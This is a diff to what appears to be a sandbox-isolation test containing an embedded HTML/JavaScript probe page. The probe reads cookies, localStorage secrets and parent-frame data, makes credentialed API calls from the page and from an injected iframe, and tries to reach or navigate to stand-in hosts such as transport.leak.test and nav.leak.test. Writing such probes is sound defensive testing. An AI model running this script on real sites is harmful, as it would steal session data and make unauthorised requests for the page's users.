@@ -70,13 +70,16 @@ document.body.append(f);f.submit()});
 T(()=>{new WebTransport('https://transport.leak.test/')});
 var R={};T(()=>{R.cookie=document.cookie});T(()=>{R.ls=localStorage.getItem('secret')});
 T(()=>{R.top=String(top.document.cookie)});T(()=>{R.parent=String(parent.document.title)});
-R.here=location.href;
+R.here=location.href;R.okjs=window.okjs;
 function tell(){document.getElementById('h').textContent='ran '+(window.okjs||'')+' '+JSON.stringify(R)}
-T(()=>{fetch(ARCHIVE+'/api/v2/dags',{credentials:'include'}).then(a=>{R.api=a.status},e=>{R.api='refused'}).then(tell)});
-tell();console.log('ran');
+function told(){tell();console.log('told '+JSON.stringify(R));
+setTimeout(()=>{try{top.location='https://topnav.leak.test/'}catch(e){}},200);
+setTimeout(()=>{location.href='https://nav.leak.test/?d=1'},500)}
+T(()=>{fetch(ARCHIVE+'/api/v2/dags',{credentials:'include'}).then(a=>{R.api=a.status},e=>{R.api='refused'}).then(told)});
+T(()=>{let i=document.createElement('iframe');document.body.append(i);
+i.contentWindow.fetch(ARCHIVE+'/api/v2/dags',{credentials:'include'})});
+tell();
 setTimeout(tell,500);
-setTimeout(()=>{location.href='https://nav.leak.test/?d=1'},1500);
-setTimeout(()=>{try{top.location='https://topnav.leak.test/'}catch(e){}},1200);
 </script></body></html>"""
 
 HEADERS = {
